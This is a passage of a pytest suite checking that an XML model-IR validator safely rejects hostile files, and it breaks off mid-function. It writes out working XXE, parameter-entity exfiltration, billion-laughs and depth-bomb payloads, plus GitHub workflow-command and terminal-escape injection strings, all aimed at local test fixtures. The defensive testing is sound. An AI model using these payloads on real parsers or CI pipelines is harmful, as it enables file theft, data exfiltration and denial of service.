"""Hostile and broken input files, as a CI gate meets them in pull requests.

Whatever the file, irvalidate must

* report it: exit 1 (or 0 when only warnings), never 2 (2 means a usage error), never an
  IRV000 internal-error finding (that means irvalidate crashed), a clear and *short* message;
* read nothing but the named ``.xml`` and its ``.bin``: no external entity, DTD or XInclude
  is loaded, nothing is fetched, no secret reaches any report format;
* stay cheap: each case under ``TIME_LIMIT`` seconds of CPU time (wall-clock time is
  stretched by whatever else runs on a shared CI machine: two cases failed on it under a
  load of 8 on 2 cores, and passed alone), peak RSS of ``python -m irvalidate`` under
  ``BOMB_RSS_MB`` on every bomb; no tensor of a declared shape is ever allocated (that the
  time grows linearly with the size of the file is measured by ``benchmarks/hostile.py``,
  on this file's inputs: a ratio of times is too noisy on a shared machine to assert);
* write nothing: input files keep their bytes, inode, mtime and ctime, their directory its
  mtime (so no temporary file came and went in it), and no temporary file is left behind
  (every test runs with ``TMPDIR`` and :mod:`tempfile` pointed at an empty directory that
  must still be empty afterwards).

The default run takes well under a minute; ``IRVALIDATE_SLOW=1`` adds the ~100 MB IR whose
peak RSS is bounded (``test_memory_of_a_100mb_ir``).
"""
from __future__ import annotations

import gzip
import hashlib
import http.server
import json
import os
import random
import re
import shutil
import socket
import stat
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from pathlib import Path

import pytest

import irvalidate.engine.validation
import irvalidate.rules.incompatible
from irvalidate.cli.main import main
from irvalidate.engine.validation import validate_file
from support.irbuilder import IR

ROOT = Path(__file__).resolve().parents[1]
SAMPLES = ROOT / "sample_models"
GENUINE = SAMPLES / "valid" / "output-shape-mismatch.xml"

#: CPU seconds one validation may take (generous; a hang is caught by the subprocess timeout)
TIME_LIMIT = 10.0
#: peak RSS of ``python -m irvalidate`` on any bomb
BOMB_RSS_MB = 300
#: the longest message a finding may have: a report is read by people and CI log viewers
MAX_MESSAGE = 2000
#: address space given to the subprocesses, so a real bomb fails fast instead of swapping
ADDRESS_SPACE_LIMIT = 4 << 30
FORMATS = ("text", "json", "sarif", "github")

_RUN = uuid.uuid4().hex[:12]
#: text that must never appear in any output: it sits only in files irvalidate must not read
SECRET = f"IRVSECRET{_RUN}"
#: what the local web server answers; irvalidate must never fetch it
NET_TOKEN = f"IRVNETLEAK{_RUN}"
#: what an external DTD would add if it were loaded
DTD_TOKEN = f"IRVEVILDTD{_RUN}"
LEAKS = (SECRET, NET_TOKEN, DTD_TOKEN)

slow = pytest.mark.slow  # registered in pyproject.toml


# --------------------------------------------------------------------------------------------
# harness
# --------------------------------------------------------------------------------------------

@pytest.fixture(autouse=True)
def private_tempdir(tmp_path_factory, monkeypatch):
    """Every test: TMPDIR and tempfile point at an empty directory that must stay empty."""
    directory = tmp_path_factory.mktemp("TMPDIR")
    for var in ("TMPDIR", "TEMP", "TMP"):
        monkeypatch.setenv(var, str(directory))
    monkeypatch.setattr(tempfile, "tempdir", str(directory))
    yield directory
    left = sorted(os.listdir(directory))
    assert not left, f"temporary files left behind in TMPDIR: {left}"


def _digest(path: Path) -> str:
    h = hashlib.sha256()
    with open(path, "rb") as handle:
        for block in iter(lambda: handle.read(1 << 20), b""):
            h.update(block)
    return h.hexdigest()


def snapshot(*roots: Path) -> dict[str, tuple]:
    """Everything observable about the files under ``roots`` (symlinks not followed):
    type, inode, size, mtime, ctime and content hash; directories' mtimes too, so a file
    created and deleted again (a temporary file) shows."""
    state: dict[str, tuple] = {}
    for root in roots:
        root = Path(root)
        st = root.lstat()
        state[str(root)] = (st.st_mode, st.st_ino, st.st_mtime_ns, st.st_ctime_ns)
        for folder, dirs, files in os.walk(root):
            for name in dirs + files:
                path = Path(folder, name)
                st = path.lstat()
                content = None
                if stat.S_ISREG(st.st_mode) and st.st_size <= 64 << 20:
                    content = _digest(path)
                elif stat.S_ISLNK(st.st_mode):
                    content = os.readlink(path)
                state[str(path)] = (st.st_mode, st.st_ino, st.st_size, st.st_mtime_ns,
                                    st.st_ctime_ns, content)
    return state


@dataclass
class Run:
    rc: int
    out: str
    err: str
    seconds: float
    cpu: float  #: CPU seconds of this process during the run: what TIME_LIMIT bounds


def run_main(args: Sequence, capsys) -> Run:
    capsys.readouterr()
    start, start_cpu = time.perf_counter(), time.process_time()
    rc = main([str(a) for a in args])
    seconds, cpu = time.perf_counter() - start, time.process_time() - start_cpu
    out, err = capsys.readouterr()
    return Run(rc, out, err, seconds, cpu)


def internal_errors(fmt: str, out: str) -> list[str]:
    """IRV000 findings in a report of the given format."""
    if fmt == "json":
        return [f["message"] for f in json.loads(out)["files"] for f in f["findings"]
                if f["rule"] == "IRV000"]
    if fmt == "sarif":
        return [r["message"]["text"] for r in json.loads(out)["runs"][0]["results"]
                if r["ruleId"] == "IRV000"]
    if fmt == "github":
        return [line for line in out.splitlines() if "title=IRV000" in line]
    return [line for line in out.splitlines() if re.search(r": IRV000 \[", line)]


def run_problems(run: Run, fmt: str, what: str, forbidden: Iterable[str] = LEAKS,
                 time_limit: float = TIME_LIMIT) -> list[str]:
    """What is wrong with one in-process run on a hostile file (empty: nothing)."""
    problems = []
    if run.rc not in (0, 1):
        problems.append(f"{what}: exit {run.rc} on a bad input file (2 is for usage errors); "
                        f"stderr: {run.err[-2000:]}")
        return problems
    crashes = internal_errors(fmt, run.out)
    if crashes:
        problems.append(f"{what}: irvalidate crashed (IRV000): {crashes[0][:1000]}")
    if "Traceback" in run.err or "internal error" in run.err:
        problems.append(f"{what}: stderr: {run.err[-2000:]}")
    for token in forbidden:
        if token in run.out or token in run.err:
            problems.append(f"{what}: {token[:9]}... from a file irvalidate must not read "
                            f"reached the output")
    if run.cpu >= time_limit:
        problems.append(f"{what}: took {run.cpu:.1f} s of CPU (limit {time_limit} s)")
    return problems


def check_clean_run(run: Run, fmt: str, what: str, forbidden: Iterable[str] = LEAKS,
                    time_limit: float = TIME_LIMIT) -> None:
    problems = run_problems(run, fmt, what, forbidden, time_limit)
    assert not problems, "\n".join(problems)


def long_messages(findings: Iterable[dict], limit: int) -> list[str]:
    return [f"{f['rule']} message is {len(f['message'])} characters long (limit {limit}): "
            f"{f['message'][:200]}..." for f in findings if len(f["message"]) > limit]


@dataclass
class Assessed:
    findings: list[dict]
    runs: dict[str, Run]

    @property
    def codes(self) -> set:
        return {f["rule"] for f in self.findings}

    def messages(self, *codes: str) -> list[str]:
        return [f["message"] for f in self.findings if not codes or f["rule"] in codes]

    def has(self, code: str, pattern: str = "") -> bool:
        return any(re.search(pattern, m, re.I) for m in self.messages(code))


def assess(path: Path, capsys, *, formats: Sequence[str] = FORMATS, args: Sequence[str] = (),
           forbidden: Iterable[str] = LEAKS, watch: Sequence[Path] = (),
           time_limit: float = TIME_LIMIT, max_message: int = MAX_MESSAGE) -> Assessed:
    """Run ``irvalidate --format F path`` in-process for every format and check everything
    every hostile file must satisfy; returns the JSON findings for case-specific checks."""
    path = Path(path)
    roots = [path.parent, *watch]
    before = snapshot(*roots)
    runs, problems = {}, []
    for fmt in dict.fromkeys(("json", *formats)):
        run = run_main([*args, "--format", fmt, path], capsys)
        problems += run_problems(run, fmt, f"{path.name} --format {fmt}", forbidden, time_limit)
        runs[fmt] = run
    if snapshot(*roots) != before:
        problems.append("an input file or directory was modified")
    assert runs["json"].rc in (0, 1), "\n".join(problems)
    report = json.loads(runs["json"].out)
    if [f["path"] for f in report["files"]] != [str(path)]:
        problems.append("the file is missing from the report")
    findings = report["files"][0]["findings"] if report["files"] else []
    problems += long_messages(findings, max_message)
    errors = any(f["severity"] == "error" for f in findings)
    for fmt, run in runs.items():
        if run.rc != (1 if errors else 0):
            problems.append(f"--format {fmt}: exit {run.rc} though errors={errors}")
    assert not problems, "\n".join(dict.fromkeys(problems))
    return Assessed(findings, runs)


@dataclass
class Proc:
    rc: int
    out: str
    err: str
    seconds: float
    cpu: float  #: the child's own CPU seconds (wait4): what TIME_LIMIT bounds
    rss_mb: float
    timed_out: bool
    temp_left: list[str]


#: forks and measures ``python -m irvalidate``: a direct child of pytest would inherit
#: pytest's own RSS high-water mark (Linux carries it over fork and exec into ru_maxrss),
#: so the measured process is forked from this small launcher instead
_LAUNCHER = r"""
import json, os, resource, signal, sys, time
report, limit, timeout, cmd = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), sys.argv[4:]
start = time.perf_counter()
pid = os.fork()
if pid == 0:
    try:
        resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
        os.execv(cmd[0], cmd)
    finally:
        os._exit(127)
killed = []
def kill(*_):
    killed.append(True)
    os.kill(pid, signal.SIGKILL)
signal.signal(signal.SIGALRM, kill)
signal.setitimer(signal.ITIMER_REAL, timeout)
_, status, usage = os.wait4(pid, 0)
signal.setitimer(signal.ITIMER_REAL, 0)
with open(report, "w") as handle:
    json.dump({"rc": os.waitstatus_to_exitcode(status), "maxrss_kb": usage.ru_maxrss,
               "seconds": time.perf_counter() - start, "cpu": usage.ru_utime + usage.ru_stime,
               "killed": bool(killed)}, handle)
"""


def run_python_m(args: Sequence, workdir: Path, timeout: float = 60.0, cwd: Path | None = None,
                 address_space: int = ADDRESS_SPACE_LIMIT) -> Proc:
    """``python -m irvalidate ARGS`` in a subprocess with TMPDIR an empty directory, its
    address space limited: exit code, output, wall time and its own peak RSS (wait4)."""
    workdir.mkdir(parents=True, exist_ok=True)
    tmp = Path(tempfile.mkdtemp(prefix="proc-tmp-", dir=workdir))
    env = dict(os.environ, TMPDIR=str(tmp), TEMP=str(tmp), TMP=str(tmp), PYTHONDONTWRITEBYTECODE="1")
    env.pop("GITHUB_ACTIONS", None)
    measured = workdir / "measured.json"
    cmd = [sys.executable, "-c", _LAUNCHER, measured, str(address_space), str(timeout),
           sys.executable, "-m", "irvalidate", *map(str, args)]
    with open(workdir / "stdout", "wb") as out, open(workdir / "stderr", "wb") as err:
        subprocess.run(cmd, stdout=out, stderr=err, stdin=subprocess.DEVNULL, env=env, cwd=cwd,
                       timeout=timeout + 30, check=True)
    m = json.loads(measured.read_text())
    temp_left = sorted(os.listdir(tmp))
    if not temp_left:
        os.rmdir(tmp)
    return Proc(m["rc"], (workdir / "stdout").read_text(errors="replace"),
                (workdir / "stderr").read_text(errors="replace"), m["seconds"], m["cpu"],
                m["maxrss_kb"] / 1024, m["killed"], temp_left)


def check_proc(proc: Proc, what: str, *, rss_mb: float = BOMB_RSS_MB, time_limit: float = TIME_LIMIT,
               forbidden: Iterable[str] = LEAKS, max_message: int = MAX_MESSAGE) -> dict:
    """The checks of a ``--format json`` subprocess run; returns the report."""
    problems = []
    if proc.timed_out:
        problems.append(f"{what}: killed after the timeout (hung, or far too slow)")
    elif proc.rc not in (0, 1):
        problems.append(f"{what}: exit {proc.rc}; stderr: {proc.err[-2000:]}")
    if proc.temp_left:
        problems.append(f"{what}: temporary files left behind: {proc.temp_left}")
    for token in forbidden:
        if token in proc.out or token in proc.err:
            problems.append(f"{what}: a secret leaked into the output")
    if proc.rss_mb >= rss_mb:
        problems.append(f"{what}: peak RSS {proc.rss_mb:.0f} MB (limit {rss_mb} MB)")
    if proc.cpu >= time_limit + 3:
        problems.append(f"{what}: {proc.cpu:.1f} s of CPU (limit {time_limit} s + 3 s start-up)")
    try:
        report = json.loads(proc.out)
    except ValueError:
        problems.append(f"{what}: no JSON report on stdout")
        report = {"files": []}
    findings = [f for file in report["files"] for f in file["findings"]]
    crashes = [f["message"] for f in findings if f["rule"] == "IRV000"]
    if crashes:
        problems.append(f"{what}: irvalidate crashed (IRV000): {crashes[0][:1000]}")
    problems += [f"{what}: {m}" for m in long_messages(findings, max_message)]
    assert not problems, "\n".join(dict.fromkeys(problems))
    return report


def codes_of(report: dict, index: int = 0) -> set:
    return {f["rule"] for f in report["files"][index]["findings"]}


# --------------------------------------------------------------------------------------------
# the hostile environment: secrets beside the inputs, a web server, a closed port
# --------------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def secrets(tmp_path_factory):
    """Files irvalidate must never open: a secret, DTDs that would inject tokens, a FIFO
    (opening it for reading blocks, so a validator that opens it hangs and is caught)."""
    d = tmp_path_factory.mktemp("secrets")
    (d / "secret.txt").write_text(f"{SECRET}\n")
    (d / "secret.dtd").write_text(f'<!ENTITY leak "{SECRET}">\n'
                                  f'<!ATTLIST layer name CDATA "{SECRET}">\n')
    (d / "evil.dtd").write_text(f'<!ATTLIST layer name CDATA "{DTD_TOKEN}">\n'
                                f'<!ATTLIST data extra CDATA "{DTD_TOKEN}">\n'
                                f'<!ENTITY evil "{DTD_TOKEN}">\n')
    os.mkfifo(d / "fifo")
    return d


class _Handler(http.server.BaseHTTPRequestHandler):
    def setup(self) -> None:
        self.server.connections.append(self.client_address)  # type: ignore[attr-defined]
        super().setup()

    def do_GET(self) -> None:
        if self.path.endswith(".dtd"):
            body = (f'<!ENTITY leak "{NET_TOKEN}"><!ATTLIST layer name CDATA "{NET_TOKEN}">')
        else:
            body = NET_TOKEN
        data = body.encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/xml-dtd" if self.path.endswith(".dtd")
                         else "text/plain")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *args) -> None:
        pass


@pytest.fixture(scope="module")
def web():
    """A local web server that answers every request with NET_TOKEN, and counts connections."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
    server.connections = []  # type: ignore[attr-defined]
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def closed_port():
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


# --------------------------------------------------------------------------------------------
# 1. XML attacks
# --------------------------------------------------------------------------------------------

def hostile_ir(doctype: str = "", *, x_name: str = "x", y_dim: str = "4",
               add_name: str = ' name="add"', data_inner: str = "", port_inner: str = "",
               layer_inner: str = "", net_inner: str = "", data_attrs: str = "") -> str:
    """A small IR with one known error (Add 'add' cannot broadcast [2,3] with [4]: IRV102)
    and hooks where an attack goes: a DOCTYPE, a layer name, a <dim>, inside <data>, a
    <port>, a <layer> or the <net>."""
    return f"""<?xml version="1.0"?>
{doctype}
<net name="hostile" version="11">
	<layers>
		<layer id="0" name="{x_name}" type="Parameter" version="opset1">
			<data shape="2,3" element_type="f32"{data_attrs}>{data_inner}</data>
			<output>
				<port id="0" precision="FP32"><dim>2</dim><dim>3</dim>{port_inner}</port>
			</output>{layer_inner}
		</layer>
		<layer id="1" name="y" type="Parameter" version="opset1">
			<data shape="4" element_type="f32"/>
			<output>
				<port id="0" precision="FP32"><dim>{y_dim}</dim></port>
			</output>
		</layer>
		<layer id="2"{add_name} type="Add" version="opset1">
			<data auto_broadcast="numpy"/>
			<input>
				<port id="0" precision="FP32"><dim>2</dim><dim>3</dim></port>
				<port id="1" precision="FP32"><dim>4</dim></port>
			</input>
			<output>
				<port id="2" precision="FP32"><dim>2</dim><dim>3</dim></port>
			</output>
		</layer>
		<layer id="3" name="out" type="Result" version="opset1">
			<input>
				<port id="0" precision="FP32"><dim>2</dim><dim>3</dim></port>
			</input>
		</layer>
	</layers>
	<edges>
		<edge from-layer="0" from-port="0" to-layer="2" to-port="0"/>
		<edge from-layer="1" from-port="0" to-layer="2" to-port="1"/>
		<edge from-layer="2" from-port="2" to-layer="3" to-port="0"/>
	</edges>{net_inner}
</net>
"""


DEPTH = 100_000
BOMB = "<a>" * DEPTH + "</a>" * DEPTH
LAUGHS = "<!DOCTYPE net [\n <!ENTITY lol \"lol\">\n" + "".join(
    f" <!ENTITY lol{i} \"{('&lol' + (str(i - 1) if i > 1 else '') + ';') * 10}\">\n"
    for i in range(1, 10)) + "]>"
BIG = "<!DOCTYPE net [<!ENTITY big \"" + "A" * 100_000 + "\">]>"
QUADRATIC = "&big;" * 30_000


def xml_attacks(secrets: Path, web_url: str, closed: int) -> dict[str, dict]:
    """id -> the file text, and what must be found: ``any_of`` codes (one of them with a
    message matching ``says``) and whether the graph's own IRV102 must still be reported."""
    secret = (secrets / "secret.txt").as_uri()
    secret_dtd = (secrets / "secret.dtd").as_uri()
    evil_dtd = (secrets / "evil.dtd").as_uri()
    entity = lambda uri: f'<!DOCTYPE net [<!ENTITY xxe SYSTEM "{uri}">]>'  # noqa: E731
    external_pe = lambda uri: f'<!DOCTYPE net [<!ENTITY % ext SYSTEM "{uri}"> %ext;]>'  # noqa: E731
    dtd_words = r"DTD|DOCTYPE|entit"
    cases = {
        # external entities, in element text and in attribute values
        "xxe-file-text": dict(text=hostile_ir(entity(secret), y_dim="&xxe;")),
        "xxe-file-attribute": dict(text=hostile_ir(entity(secret), x_name="&xxe;")),
        "xxe-file-data-attribute": dict(text=hostile_ir(entity(secret), data_attrs=' extra="&xxe;"')),
        "xxe-http-text": dict(text=hostile_ir(entity(f"{web_url}/x"), y_dim="&xxe;")),
        "xxe-http-attribute": dict(text=hostile_ir(entity(f"{web_url}/x"), x_name="&xxe;")),
        "xxe-closed-port-text": dict(text=hostile_ir(entity(f"http://127.0.0.1:{closed}/x"),
                                                     y_dim="&xxe;")),
        "xxe-closed-port-attribute": dict(text=hostile_ir(
            entity(f"http://127.0.0.1:{closed}/x"), x_name="&xxe;")),
        "xxe-public-id": dict(text=hostile_ir(
            f'<!DOCTYPE net [<!ENTITY xxe PUBLIC "-//EVIL//X" "{secret}">]>', y_dim="&xxe;")),
        # parameter entities: internal, external (file and http), and the classic exfiltration
        "pe-internal": dict(text=hostile_ir(
            "<!DOCTYPE net [<!ENTITY % pe \"<!ENTITY inner 'from-a-parameter-entity'>\"> %pe;]>",
            y_dim="&inner;")),
        "pe-external-file": dict(text=hostile_ir(external_pe(secret_dtd), y_dim="&leak;")),
        "pe-external-file-attribute": dict(text=hostile_ir(external_pe(secret_dtd),
                                                           x_name="&leak;")),
        "pe-external-http": dict(text=hostile_ir(external_pe(f"{web_url}/evil.dtd"),
                                                 y_dim="&leak;")),
        "pe-exfiltration": dict(text=hostile_ir(
            f'<!DOCTYPE net [<!ENTITY % file SYSTEM "{secret}">'
            f'<!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM \'{web_url}/?x=%file;\'>">'
            f'%eval; %exfil;]>'), says=r"PEReference|entit|DTD"),
        # external DTDs: if loaded, they give the unnamed Add a name, or define &evil;
        "dtd-external-file": dict(text=hostile_ir(f'<!DOCTYPE net SYSTEM "{evil_dtd}">',
                                                  add_name=""), graph=True),
        "dtd-external-public": dict(text=hostile_ir(
            f'<!DOCTYPE net PUBLIC "-//EVIL//DTD IR//EN" "{evil_dtd}">', add_name=""), graph=True),
        "dtd-external-http": dict(text=hostile_ir(
            f'<!DOCTYPE net SYSTEM "{web_url}/evil.dtd">', add_name=""), graph=True),
        "dtd-external-entity-in-text": dict(text=hostile_ir(f'<!DOCTYPE net SYSTEM "{evil_dtd}">',
                                                            y_dim="&evil;")),
        "dtd-external-entity-in-attribute": dict(text=hostile_ir(
            f'<!DOCTYPE net SYSTEM "{evil_dtd}">', x_name="&evil;")),
        "dtd-external-plus-internal": dict(text=hostile_ir(
            f'<!DOCTYPE net SYSTEM "{evil_dtd}" [<!ENTITY x "y">]>', add_name=""), graph=True),
        "dtd-internal-unused": dict(text=hostile_ir("<!DOCTYPE net [<!ELEMENT net ANY>]>"),
                                    graph=True),
        # XInclude and a stylesheet processing instruction: neither is processed
        "xinclude": dict(text=hostile_ir(net_inner=(
            f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{secret}" '
            f'parse="text"/>')), any_of={"IRV005"}, says="include|not allowed", graph=True),
        "xml-stylesheet": dict(text=hostile_ir().replace(
            "<net ", f'<?xml-stylesheet type="text/xsl" href="{web_url}/x.xsl"?>\n<net ', 1),
            any_of={"IRV102"}, says="", graph=True),
        # entity expansion bombs
        "billion-laughs-text": dict(text=hostile_ir(LAUGHS, y_dim="&lol9;"), bomb=True),
        "billion-laughs-attribute": dict(text=hostile_ir(LAUGHS, x_name="&lol9;"), bomb=True),
        "billion-laughs-data-attribute": dict(text=hostile_ir(LAUGHS, data_attrs=' e="&lol9;"'),
                                              bomb=True),
        "quadratic-blowup-text": dict(text=hostile_ir(BIG, y_dim=QUADRATIC), bomb=True),
        "quadratic-blowup-attribute": dict(text=hostile_ir(BIG, x_name=QUADRATIC), bomb=True),
        # depth bombs: 100k nested elements
        "depth-bomb-in-layer": dict(text=hostile_ir(layer_inner=BOMB), bomb=True),
        "depth-bomb-in-data": dict(text=hostile_ir(data_inner=BOMB), bomb=True),
        "depth-bomb-in-port": dict(text=hostile_ir(port_inner=BOMB), bomb=True),
        "depth-bomb-in-dim": dict(text=hostile_ir(y_dim=BOMB), bomb=True),
        "depth-bomb-in-rt-info": dict(text=hostile_ir(layer_inner=f"<rt_info>{BOMB}</rt_info>"),
                                      bomb=True),
        "depth-bomb-in-net": dict(text=hostile_ir(net_inner=BOMB), bomb=True),
    }
    for case in cases.values():
        case.setdefault("any_of", {"IRV001", "IRV004"})
        case.setdefault("says", dtd_words if "DOCTYPE" in case["text"] else r"depth|deep|nest")
        case.setdefault("graph", False)
        case.setdefault("bomb", False)
    return cases


XML_ATTACKS = sorted(xml_attacks(Path("/nonexistent"), "http://127.0.0.1:1", 1))


@pytest.fixture
def attack(request, secrets, web, closed_port):
    url = f"http://127.0.0.1:{web.server_address[1]}"
    return xml_attacks(secrets, url, closed_port)[request.param]


@pytest.mark.parametrize("attack", XML_ATTACKS, indirect=True)
def test_xml_attack_is_reported_and_nothing_is_read_or_fetched(attack, tmp_path, capsys, web,
                                                               secrets):
    path = tmp_path / "model.xml"
    path.write_text(attack["text"])
    before = len(web.connections)
    found = assess(path, capsys, watch=[secrets])
    assert len(web.connections) == before, "irvalidate connected to the network"
    assert found.codes & attack["any_of"], f"expected one of {attack['any_of']}, got {found.codes}"
    if attack["says"]:
        assert any(re.search(attack["says"], m, re.I)
                   for m in found.messages(*attack["any_of"])), found.messages()
    if attack["graph"]:
        # the file is still analysed: the graph's own error is reported, the Add unnamed
        assert found.has("IRV102", r"^Add '(add)?' \(id=2\)"), found.messages()


@pytest.mark.parametrize("attack", XML_ATTACKS, indirect=True)
def test_inspect_reads_nothing_fetches_nothing_and_never_crashes(attack, tmp_path, capsys, web):
    """Issue 28: ``inspect`` reads the names and rt_info the records leave out with lxml of
    its own (ir/details.py), with the parser's options: no entity, DTD or network."""
    path = tmp_path / "model.xml"
    path.write_text(attack["text"])
    before = len(web.connections)
    for fmt in ("text", "json"):
        run = run_main(["inspect", "--format", fmt, path], capsys)
        assert run.rc in (0, 2), (run.rc, run.err)
        assert "Traceback" not in run.err and not any(t in run.out + run.err for t in LEAKS)
    # the parser refuses most of these first: its own lxml pass is tried on each directly
    from lxml import etree

    from irvalidate.ir import details
    try:
        found = repr(details.read(str(path), {n: str(n) for n in range(8)}, plain=False))
    except (etree.XMLSyntaxError, OSError, ValueError):
        found = ""
    assert not any(t in found for t in LEAKS), found
    assert len(web.connections) == before, "irvalidate connected to the network"


BOMBS = [name for name in XML_ATTACKS if xml_attacks(Path("/x"), "http://x", 1)[name]["bomb"]]


@pytest.mark.parametrize("attack", BOMBS, indirect=True)
def test_xml_bomb_memory_and_time_are_bounded(attack, tmp_path):
    path = tmp_path / "in" / "model.xml"
    path.parent.mkdir()
    path.write_text(attack["text"])
    before = snapshot(path.parent)
    proc = run_python_m(["--format", "json", path], tmp_path / "proc")
    report = check_proc(proc, path.name)
    assert codes_of(report) & attack["any_of"]
    assert snapshot(path.parent) == before


def test_huge_text_node_is_bounded(tmp_path):
    """A 12 MB attribute value (libxml2 refuses text nodes over 10 MB without huge_tree)."""
    path = tmp_path / "in" / "model.xml"
    path.parent.mkdir()
    path.write_text(hostile_ir(x_name="N" * 12_000_000))
    proc = run_python_m(["--format", "json", path], tmp_path / "proc")
    report = check_proc(proc, "12 MB attribute")
    assert codes_of(report) & {"IRV001", "IRV102"}


@pytest.mark.parametrize("where", ["data", "rt_info"])
def test_many_attributes_on_one_element(where, tmp_path):
    """10000 attributes (a 150 KB file) on one element: memory and time stay small."""
    attrs = "".join(f' a{i}="{i}"' for i in range(10_000))
    path = tmp_path / "in" / "model.xml"
    path.parent.mkdir()
    if where == "data":
        path.write_text(hostile_ir(data_attrs=attrs))
    else:
        path.write_text(hostile_ir(layer_inner=f"<rt_info><attribute{attrs}/></rt_info>"))
    proc = run_python_m(["--format", "json", path], tmp_path / "proc", timeout=30)
    report = check_proc(proc, f"10000 attributes on <{where}>")
    assert codes_of(report) & {"IRV102", "IRV001"}


def test_depth_below_the_parser_limit_is_analysed(tmp_path, capsys):
    """200 nested elements in rt_info: libxml2 accepts them; irvalidate must too (no
    RecursionError in its own walks) and still report the graph's error."""
    deep = "<a>" * 200 + "</a>" * 200
    path = tmp_path / "model.xml"
    path.write_text(hostile_ir(layer_inner=f"<rt_info>{deep}</rt_info>", port_inner=deep))
    found = assess(path, capsys)
    assert "IRV102" in found.codes


FIFO_CASES = {
    "entity": lambda s: hostile_ir(f'<!DOCTYPE net [<!ENTITY xxe SYSTEM "{s.as_uri()}">]>',
                                   y_dim="&xxe;"),
    "parameter-entity": lambda s: hostile_ir(
        f'<!DOCTYPE net [<!ENTITY % ext SYSTEM "{s.as_uri()}"> %ext;]>'),
    "external-dtd": lambda s: hostile_ir(f'<!DOCTYPE net SYSTEM "{s.as_uri()}">'),
}


@pytest.mark.parametrize("case", sorted(FIFO_CASES))
def test_nothing_is_opened_fifo(case, tmp_path, secrets):
    """The entity or DTD names a FIFO nobody writes to: opening it would block, so a run
    that finishes proves the file was never opened."""
    path = tmp_path / "in" / "model.xml"
    path.parent.mkdir()
    path.write_text(FIFO_CASES[case](secrets / "fifo"))
    proc = run_python_m(["--format", "json", path], tmp_path / "proc", timeout=20)
    report = check_proc(proc, f"fifo {case}")
    assert codes_of(report) & {"IRV001", "IRV004"}


_SYSCALL = re.compile(r'^(\d+) +(\w+)\((.*)\) += (-?\d+|\?)')
_WRITE_FLAGS = re.compile(r"O_WRONLY|O_RDWR|O_CREAT|O_TRUNC|O_APPEND")


def test_syscalls_show_nothing_read_fetched_or_written(tmp_path, secrets, web, closed_port):
    """Every XML attack in one directory, validated with -j 2 under strace: no file outside
    the inputs is opened (no secret, DTD or FIFO), no socket connects, nothing is opened
    for writing, renamed, removed or created (but multiprocessing's own semaphores and the
    shared memory that holds -j's file counter)."""
    strace = shutil.which("strace")
    if strace is None:
        pytest.skip("strace is not installed")
    models = tmp_path / "models"
    models.mkdir()
    url = f"http://127.0.0.1:{web.server_address[1]}"
    for name, case in xml_attacks(secrets, url, closed_port).items():
        (models / f"{name}.xml").write_text(case["text"])
    build_broadcast_bomb("target-values-1e18", models / "with-bin")
    log = tmp_path / "strace.log"
    env = dict(os.environ, PYTHONDONTWRITEBYTECODE="1")
    connections = len(web.connections)
    proc = subprocess.run(
        [strace, "-f", "-qq", "-o", str(log), "-e", "trace=open,openat,openat2,creat,connect,"
         "rename,renameat,renameat2,unlink,unlinkat,mkdir,mkdirat,rmdir,truncate,link,symlink",
         sys.executable, "-m", "irvalidate", "-j", "2", "--format", "json", str(models)],
        capture_output=True, text=True, env=env, timeout=120)
    if not log.exists() or "ptrace" in proc.stderr:
        pytest.skip(f"strace cannot trace here: {proc.stderr[-300:]}")
    assert proc.returncode == 1, proc.stderr[-2000:]
    assert json.loads(proc.stdout)["files"]
    problems = []
    for line in log.read_text().splitlines():
        match = _SYSCALL.match(line)
        if not match:
            continue
        _, call, args, result = match.groups()
        path = re.search(r'"([^"]*)"', args)
        path = path.group(1) if path else ""
        if call == "connect" and "AF_UNIX" not in args:
            problems.append(line)
        elif str(secrets) in args:
            problems.append(line)
        elif path.startswith(("/dev/shm/sem.", "/dev/shm/pym-")) or \
                path in ("/dev/null", "/dev/tty"):
            continue  # multiprocessing's semaphores and shared arena (-j's file counter),
            # created exclusively and unlinked at once
        elif call.startswith("open") and _WRITE_FLAGS.search(args) and result != "-1":
            problems.append(line)
        elif call not in ("open", "openat", "openat2", "connect") and result != "-1":
            problems.append(line)
        elif call.startswith("open") and str(models) in path and result != "-1" \
                and not path.endswith((".xml", ".bin")) and "O_DIRECTORY" not in args:
            problems.append(line)
    assert len(web.connections) == connections
    assert not problems, "\n".join(problems[:20])


def test_github_format_cannot_be_injected(tmp_path, capsys):
    """A layer name with a newline must not start a workflow command of its own."""
    path = tmp_path / "model.xml"
    path.write_text(hostile_ir(add_name=' name="add&#10;::error file=evil.py,line=1::pwned&#13;'
                                        '&#10;::add-mask::x"'))
    found = assess(path, capsys, formats=("github", "text"))
    assert "IRV102" in found.codes
    lines = found.runs["github"].out.splitlines()
    assert not [line for line in lines if line.startswith(("::error file=evil", "::add-mask"))]


#: a layer name that tries to start a workflow command of its own (a line break) and to
#: drive the terminal (C1's CSI, U+2028): XML 1.0 allows these, not ESC
INJECTING_NAME = "add&#10;::error file=evil.xml,line=1::INJECTED&#13;&#155;31m&#8232;x"
#: a file name may hold anything but "/" and NUL: ESC, OSC, BEL and line breaks included
INJECTING_FILE = "m\n::error file=evil.xml::FILE\x1b]0;pwned\x07\x1b[31m.xml"
#: control characters a terminal or a CI log acts on, a line break between lines excepted
_RAW_CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029]")


def acted_on(output: str, own: Sequence[str] = ()) -> list[str]:
    """What in a human-readable output a CI log or a terminal would act on: a line that
    is a workflow command (GitHub strips leading white space first) other than the
    format's ``own``, and any raw control character."""
    lines = output.split("\n")
    found = [line for line in lines if line.lstrip().startswith("::")
             and not line.startswith(tuple(own))]
    return found + [repr(line) for line in lines if _RAW_CONTROL.search(line)]


def fixable_ir(name: str) -> str:
